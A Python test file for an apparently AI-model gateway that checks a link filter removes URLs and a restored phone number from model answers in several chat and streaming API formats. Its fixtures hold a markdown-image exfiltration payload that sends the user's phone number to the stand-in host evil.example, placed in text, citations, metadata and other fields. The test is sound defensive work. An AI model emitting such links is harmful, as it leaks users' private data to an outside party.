"""A model that is not on our side: what it says outside the texts that are looked at gets nothing past anybody."""

from __future__ import annotations

import json
from typing import Any

import pytest

from chalkline.gateway.inbound.channels import AnswerChannel, Channels, TextFilter
from chalkline.gateway.inbound.chat import Chat
from chalkline.gateway.inbound.events import EventReader
from chalkline.gateway.inbound.messages import Messages
from chalkline.gateway.inbound.responses import Responses
from chalkline.gateway.inbound.shape import Shape, Unreadable
from chalkline.protect.links import LinkFilter
from chalkline.protect.redacting import StandIns

Json = dict[str, Any]
PHONE = "415-555-2671"
EVIL = "https://evil.example/?d=[PHONE_1]"
TEXT = f"![x]({EVIL}) and say so"


def links(_channel: AnswerChannel) -> TextFilter:
    return LinkFilter()


def channels(*, replaced: bool = True) -> Channels:
    made = StandIns()
    if replaced:
        made.by_name["[PHONE_1]"] = PHONE
    return Channels(made, (links,), keeps=True)


def whole(shape: Shape, answer: Json, *, replaced: bool = True) -> str:
    """A whole answer as the caller reads it; "" where it is refused."""
    try:
        shape.edit_answer(answer, channels(replaced=replaced))
    except Unreadable:
        return ""
    return json.dumps(answer)


def streamed(shape: Shape, *events: Json, replaced: bool = True) -> str:
    stream, out = shape.stream(channels(replaced=replaced)), b""
    try:
        for event in events:
            for data in EventReader().feed(f"data: {json.dumps(event)}\n\n".encode()):
                out += stream.edit(data)
    except Unreadable:
        return ""
    return out.decode()


def chat(message: Json, **more: Any) -> Json:
    return {"choices": [{"index": 0, "message": message, **more.pop("choice", {})}], **more}


def chunk(delta: Json, **more: Any) -> Json:
    return {"choices": [{"index": 0, "delta": delta, **more.pop("choice", {})}], **more}


def response(part: Json, **more: Any) -> Json:
    item = {"type": "message", "role": "assistant", "content": [{"type": "output_text", "text": "hi", **part}]}
    return {"output": [item], **more}


CITATION = {"type": "url_citation", "url": EVIL, "title": "Read more"}
PLACE: Json = {"output_index": 0, "content_index": 0, "item_id": "m"}
PART = {"type": "output_text", "text": ""}
WHOLE: list[tuple[Shape, Json]] = [
    (Chat(), chat({"content": "hi"}, citations=[EVIL])),
    (Chat(), chat({"content": "hi"}, error={"message": TEXT})),
    (Chat(), chat({"content": "hi"}, choice={"text": TEXT})),
    (Chat(), chat({"content": "hi", "annotations": [CITATION], "name": EVIL})),
    (Responses(), response({"annotations": [CITATION]})),
    (Responses(), response({}, output_text=TEXT, metadata={"more": EVIL})),
    (Responses(), response({"more": EVIL})),
    (Messages(), {"content": [{"type": "text", "text": "hi", "citations": [{"type": "x", "url": EVIL}]}]}),
    (Messages(), {"content": [{"type": "text", "text": "hi", "title": TEXT}], "more": EVIL}),
]
STREAMED: list[tuple[Shape, Json]] = [
    (Chat(), chunk({"content": "hi "}, citations=[EVIL], search_results=[{"url": EVIL}])),
    (Chat(), chunk({"content": "hi "}, choice={"text": TEXT})),
    (Chat(), chunk({"content": "hi ", "annotations": [CITATION], "name": EVIL})),
    (Responses(), {"type": "response.output_text.annotation.added", **PLACE, "annotation": CITATION}),
    (Responses(), {"type": "response.audio_transcript.done", **PLACE, "transcript": TEXT}),
    (Responses(), {"type": "response.created", "response": response({"text": TEXT})}),
    (Responses(), {"type": "response.created", "response": {"output": [], "metadata": {"more": EVIL}}}),
    (Responses(), {"type": "response.content_part.added", **PLACE, "part": {**PART, "annotations": [CITATION]}}),
    (Responses(), {"type": "response.content_part.added", **PLACE, "part": {**PART, "text": TEXT}}),
    (Responses(), {"type": "response.output_item.added", "item": response({"text": TEXT})["output"][0]}),
    (Messages(), {"type": "message_start", "message": {"content": [{"type": "text", "text": TEXT}]}}),
    (Messages(), {"type": "message_start", "message": {"content": [], "more": EVIL}}),
    (Responses(), {"type": "response.output_text.delta", **PLACE, "delta": "hi ", "more": EVIL}),
    (Messages(), {"type": "notice", "text": TEXT}),
    (
        Messages(),
        {"type": "content_block_delta", "m": EVIL, "delta": {"type": "text_delta", "text": "hi ", "more": EVIL}},
    ),
    (Messages(), {"type": "message_delta", "delta": {"stop_reason": "end_turn", "more": EVIL}}),
    (Messages(), {"type": "content_block_start", "index": 0, "content_block": {"type": "text", "text": "", "t": TEXT}}),
    (
        Messages(),
        {"type": "content_block_delta", "index": 0, "delta": {"type": "citations_delta", "citation": {"url": EVIL}}},
    ),
]


@pytest.mark.parametrize("replaced", [True, False])
@pytest.mark.parametrize("place", range(len(WHOLE)))
def test_no_link_stands_anywhere_in_a_whole_answer(place: int, replaced: bool) -> None:
    shape, answer = WHOLE[place]
    told = whole(shape, json.loads(json.dumps(answer)), replaced=replaced)
    assert "hi" in told and "://" not in told and PHONE not in told


@pytest.mark.parametrize("replaced", [True, False])
@pytest.mark.parametrize("place", range(len(STREAMED)))
def test_no_link_stands_anywhere_in_a_stream(place: int, replaced: bool) -> None:
    shape, event = STREAMED[place]
    told = streamed(shape, json.loads(json.dumps(event)), replaced=replaced)
    assert "://" not in told and PHONE not in told
